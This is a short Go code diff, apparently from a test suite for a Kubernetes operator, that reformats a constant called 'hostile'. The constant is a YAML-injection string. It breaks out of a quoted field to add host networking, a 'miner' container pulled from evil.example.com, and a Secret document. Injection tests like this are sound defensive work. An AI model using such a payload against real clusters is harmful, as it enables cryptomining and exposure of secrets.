@@ -51,7 +51,8 @@ func showInvalid(ctx context.Context, s *stage) error {
 }
 
 // hostile is text that becomes fields of the pod wherever templates are filled in as text and parsed afterwards.
-const hostile = "hi\"\n      hostNetwork: true\n      containers:\n      - name: miner\n        image: evil.example.com/miner\n      x: \"\n---\nkind: Secret\n{{ .metadata }}"
+const hostile = "hi\"\n      hostNetwork: true\n      containers:\n      - name: miner\n        image: evil.example.com/miner\n      x: " +
+	"\"\n---\nkind: Secret\n{{ .metadata }}"
 
 // showInjection creates an Appoperator whose text is full of YAML.
 func showInjection(ctx context.Context, s *stage) error {
